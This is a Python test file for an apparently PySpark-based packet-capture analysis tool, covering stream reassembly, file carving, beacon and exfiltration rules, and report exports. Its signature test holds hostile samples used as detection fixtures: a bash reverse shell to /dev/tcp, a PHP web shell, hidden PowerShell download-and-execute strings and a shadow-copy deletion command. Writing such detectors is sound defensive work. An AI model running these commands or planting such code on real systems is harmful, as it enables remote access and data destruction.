"""Files, beacons and summaries that need whole streams or connection events."""

import hashlib
import random
import struct

from pyspark.sql import functions as F

from tests import frames as f
from wiretide.functions import columns as C
from wiretide.operators import facts, intervals, reassembly
from wiretide.plans import captures, report, rules
from wiretide.sources import pcap as src

ME, DC, WEB = "10.0.0.5", "10.0.0.10", "45.77.1.1"


def stream(t, a, b, sp, dp, data, step=1400, seq=1):
    return [(t + i / 1e6, f.tcp4(a, b, sp, dp, 24, seq + i, data[i : i + step])) for i in range(0, len(data), step)]


def tables(spark, tmp_path, packets, name="x.pcap"):
    (tmp_path / name).write_bytes(f.pcap(sorted(packets)))
    return captures.tables(src.read_captures(spark, str(tmp_path / name)))


def read_reply(data):
    body = struct.pack("<HBBIII", 17, 80, 0, len(data), 0, 0) + data
    return f.smb2(8, body, flags=1)


def test_smb_files_over_segments(spark, tmp_path):
    rng = random.Random(2)
    wrote, read = b"MZ" + rng.randbytes(300_000), b"%PDF-1.7" + rng.randbytes(100_000)
    up = f.smb2_create("share\\dir\\tool.bin") + b"".join(f.smb2_write(o, wrote[o : o + 65_536]) for o in range(0, len(wrote), 65_536))
    down = b"".join(read_reply(read[o : o + 30_000]) for o in range(0, len(read), 30_000))
    p = [(1, f.tcp4(ME, DC, 31000, 445, 2, 0))] + stream(2, ME, DC, 31000, 445, up) + stream(3, DC, ME, 445, 31000, down)
    t = tables(spark, tmp_path, p)
    got = {r.sha256: r for r in t["files"].collect()}
    a, b = got[hashlib.sha256(wrote).hexdigest()], got[hashlib.sha256(read).hexdigest()]
    assert (a.name, a.kind, a.source, a.target, a.size) == ("tool.bin", "exe", ME, DC, len(wrote)) and (b.kind, b.source, b.target) == ("pdf", DC, ME)
    assert a.entropy > 7.9
    stored = {r.sha256: hashlib.sha256(r.data).hexdigest() for r in reassembly.bodies(t["carved"]).collect()}
    assert all(k == v for k, v in stored.items()) and len(stored) == 2
    s = t["stream_summaries"].first()
    assert (s.client, s.server, s.bytes_to_server, s.bytes_to_client, s.missing_bytes, s.lost_bytes, s.complete, s.reset) == (ME, DC, len(up), len(down), 0, 0, True, False)
    assert s.preview_to_server.endswith(f"({len(up) - 900} more bytes)")


def test_repeated_and_lost_segments(spark, tmp_path):
    data = b"GET / HTTP/1.1\r\n" + bytes(range(65, 91)) * 20
    p = stream(1, ME, WEB, 4000, 80, data, 100) + stream(2, ME, WEB, 4000, 80, data[:300], 100) + [(3, f.tcp4(ME, WEB, 4000, 80, 24, 2_000_000, b"far away")), (4, f.tcp4(WEB, ME, 80, 4000, 4, 1))]
    r = tables(spark, tmp_path, p)["streams"].first()
    assert (bytes(r.data), r.repeated, r.lost, r.missing, r.reset, r.closed) == (data, 300, 8, 0, True, False)
    p += [(5, f.tcp4(WEB, ME, 80, 4000, 17, 1))]
    assert tables(spark, tmp_path, p)["stream_summaries"].first().closed


def test_ftp_and_tftp_files(spark, tmp_path):
    zipped = b"PK\x03\x04 word/document.xml" + bytes(100)
    p = [(1, f.tcp4(WEB, ME, 20, 5000, 2, 0))] + stream(2, WEB, ME, 20, 5000, zipped) + stream(3, ME, WEB, 5001, 69, b"\x7fELF" + bytes(100)) + stream(4, ME, WEB, 5002, 21, b"USER plain text only\r\n" * 9)
    got = {(r.protocol, r.kind, r.category) for r in tables(spark, tmp_path, p)["files"].collect()}
    assert got == {("FTP-Data", "docx", "document"), ("TFTP", "elf", "executable")}


def test_signatures_by_type(spark):
    samples = {
        "Embedded PowerShell with encoded command": b"x powershell.exe -w hidden -enc " + b"A" * 60, "PowerShell download and execute": b"IEX Invoke-Expression DownloadString(", "PDF with automatic action": b"%PDF-1.4 /OpenAction", "PDF with embedded JavaScript": b"%PDF-1.4 /JS",
        "PDF with embedded file": b"%PDF /Launch", "Office document with auto-executing macro": b"PK\x03\x04 word/ AutoOpen", "Office macro shelling out": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 wscript.shell", "Web shell": b"<?php eval($_POST['x']);", "Reverse shell": b"bash -i >& /dev/tcp/1.2.3.4/9",
        "Mimikatz": b"x sekurlsa x", "Cobalt Strike beacon artefact": b"beacon.dll", "Metasploit payload artefact": b"metsrv.dll stdapi_", "Ransomware note": b"All your files are encrypted. Pay bitcoin", "Shadow copy deletion": b"vssadmin.exe delete shadows", "UPX packed": b"UPX0 UPX1",
        "Private key material": b"-----BEGIN PRIVATE KEY", "Cloud credentials": b"key AKIA" + b"A" * 16, "Mining configuration": b"stratum+tcp://pool", "Anti-analysis checks": b"VBoxGuest SbieDll.dll",
    }
    quiet = [b"/OpenAction /JS /Launch", b"AutoOpen wscript.shell", b"metsrv.dll", b"UPX0", b"your files are encrypted", b"IEX Invoke-Expression"]
    rows = [("c", "HTTP", "a", "b", name, 0.0, 1, data) for name, data in samples.items()] + [("c", "HTTP", "a", "b", "", 0.0, 1, q) for q in quiet]
    df = spark.createDataFrame(rows, "capture_id string, protocol string, source string, target string, name string, ts double, number long, data binary")
    for r in reassembly.described(df).collect():
        assert (r.name in [s.name for s in r.signatures]) if r.name else r.signatures == [], r
    order = reassembly.described(df, order=True).first()
    assert order.signatures[0].severity == "critical" and {s[0] for s in reassembly.SIGNATURES} == set(samples)


def test_beacon_in_one_connection(spark, tmp_path):
    """Three datagrams each minute from one port are one event each."""
    rng = random.Random(3)
    p = [(1_700_000_000 + 60 * i + rng.random() / 5 + j / 100, f.udp4(ME, WEB, 5555, 9999, b"hello")) for i in range(60) for j in range(3)]
    t = tables(spark, tmp_path, p)
    assert t["connection_events"].count() == 60
    found = rules.RULES["c2.beacon"](t).first()
    assert found.severity == "critical" and found.hosts == [ME]


def test_uploads_are_judged_by_their_sum(spark):
    rows = [("c", "10.0.0.5", f"45.77.1.{i}", 443, 6_000_000, 10, True, False, float(i), float(i)) for i in range(30)]
    flows = spark.createDataFrame(rows, "capture_id string, src string, dst string, dport long, bytes_out long, bytes_in long, src_private boolean, dst_private boolean, first_seen double, last_seen double")
    assert rules.RULES["exfil.large_upload"]({"flows": flows}).first().severity == "high"
    assert rules.RULES["exfil.large_upload"]({"flows": flows.limit(10)}).first().severity == "medium"


def test_kept_events_over_batches(spark):
    rng = random.Random(4)
    rows = sorted((f"k{rng.randrange(5)}", i % 2, rng.randrange(10**8)) for i in range(3000))
    want, last = [], {}
    for k, j, t in sorted(rows):
        if (k, j) not in last or t - last[k, j] > 2_000_000:
            last[k, j] = t
            want.append((k, j, t))
    spark.conf.set("spark.sql.execution.arrow.maxRecordsPerBatch", "97")
    try:
        got = intervals.kept(spark.createDataFrame(rows, "a string, b long, us long"), ["a", "b"], "us", 2_000_000).collect()
    finally:
        spark.conf.unset("spark.sql.execution.arrow.maxRecordsPerBatch")
    assert sorted(map(tuple, got)) == sorted(want)


def test_bands_and_verdicts(spark):
    rows = spark.createDataFrame([(i, s) for i, s in enumerate((0, 9, 10, 24, 25, 49, 50, 74, 75, 100))], "i int, s int")
    assert [r.b for r in rows.select("i", C.risk_band(F.col("s")).alias("b")).orderBy("i").collect()] == ["clean"] * 2 + ["low"] * 2 + ["elevated"] * 2 + ["high"] * 2 + ["critical"] * 2
    risk = spark.createDataFrame([("a", 80, "critical"), ("b", 0, "clean")], "capture_id string, risk int, band string")
    found = spark.createDataFrame([("a", "critical"), ("a", "high")], "capture_id string, severity string")
    said = {r.capture_id: r.verdict for r in report.verdict(risk, found).collect()}
    assert "1 critical and 1 high" in said["a"] and "Nothing malicious" in said["b"]


def test_profile_and_exports(spark, tmp_path):
    p = [(100 + i / 10, f.tcp4("10.0.0.66", WEB, 50000 + i, 443, 2)) for i in range(30)] + [(200 + i, f.udp4(ME, "8.8.8.8", 137, 137, f.question("a.example"))) for i in range(3)] + stream(300, ME, DC, 4000, 445, f.smb2_create("x.locked"))
    (tmp_path / "x.pcap").write_bytes(f.pcap(sorted(p)))
    t, found = captures.analyse(spark, str(tmp_path / "x.pcap"))
    row = t["profile"].first()
    assert {"windows-domain", "encrypted-web"} <= set(row.traits) and row.internal_hosts == 3 and "Windows domain" in row.summary and row.top_services[0].name == "HTTPS"
    counts = {r.name: r.packets for r in t["protocol_counts"].collect()}
    assert counts["NBNS"] == 3 and counts["UDP"] == 3 and counts["TCP"] == 31
    report.write(t, found, str(tmp_path / "out"), with_bodies=True)
    for name in ("findings", "hosts", "flows", "files", "credentials", "iocs"):
        spark.read.option("header", True).csv(str(tmp_path / "out/csv" / name)).count()
    objects = [r.value for r in spark.read.text(str(tmp_path / "out/stix")).collect()]
    kinds = {o.split('"type":"')[1].split('"')[0] for o in objects}
    assert {"identity", "attack-pattern", "note", "report"} <= kinds
    event = spark.read.text(str(tmp_path / "out/misp/events")).first().value
    assert '"threat_level_id"' in event and "mitre-attack-pattern" in event
    both = report.compare_captures((t, found), (t, found.limit(0)))
    assert both.where("kind = 'finding' AND state = 'new'").count() == found.select("id", "title").distinct().count() and both.where("kind = 'host'").select("state").distinct().first().state == "common"
    assert facts.host_roles(t["hosts"]).count() == t["hosts"].count()
